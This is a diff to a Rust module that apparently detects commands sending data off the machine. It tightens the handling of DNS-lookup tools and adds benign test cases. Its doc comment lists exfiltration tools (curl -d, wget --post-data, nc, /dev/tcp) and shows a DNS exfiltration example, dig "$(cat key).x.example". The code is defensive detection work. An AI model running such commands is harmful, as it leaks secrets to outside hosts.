@@ -2,7 +2,8 @@
 //!
 //! Sees programs that upload (`curl -d`, `wget --post-data`, `nc`, `scp`, `/dev/tcp/…`, a script with a POST in it) with an
 //! address that is not this machine, names put together from something that are looked up (`dig "$(cat key).x.example"`), and
-//! packages that are installed. The walls let nothing out, so it did no harm; but who posts an environment or calls a provider behind
+//! packages that are installed. The walls let nothing out, so it did no harm; but who posts an environment or calls a provider
+//! behind
 //! the witness's back is not signed in silence. What looks alike: reading a page of documentation, which is only a note here
 //! because pages have a tool of their own; servers on loopback. Confidence: *inferred* (by the text of the command).
 
@@ -110,10 +111,13 @@ fn sent(start: &Start) -> Option<(Severity, String)> {
             let host = start.operands().find_map(bare_host)?;
             Some((Severity::Warn, host))
         }
+        "getent" if start.operands().next() != Some("hosts") => None,
         "dig" | "nslookup" | "host" | "getent" | "ping" => {
-            let name = start.operands().find(|name| name.contains('.'))?;
-            let carries = name.contains(['$', '`']);
-            Some((weight(carries), name.to_owned()))
+            let carries = |name: &str| name.contains('.') && name.contains(['$', '`']);
+            let name = start
+                .operands()
+                .find(|name| carries(name) || is_foreign(name))?;
+            Some((weight(carries(name)), name.to_owned()))
         }
         "npm" | "pnpm" | "yarn" | "pip" | "pip3" => {
             let mut operands = start.operands();
@@ -257,6 +261,8 @@ mod tests {
             "node -e \"console.log('https://x.example')\"",
             "grep -rn 'https://www.googleapis.com' .",
             "nc -l 8080",
+            "ping -c 1 127.0.0.1",
+            "getent passwd ada.lovelace",
             "npm install",
             "npm ci --no-audit",
             "npm install ../helpers",
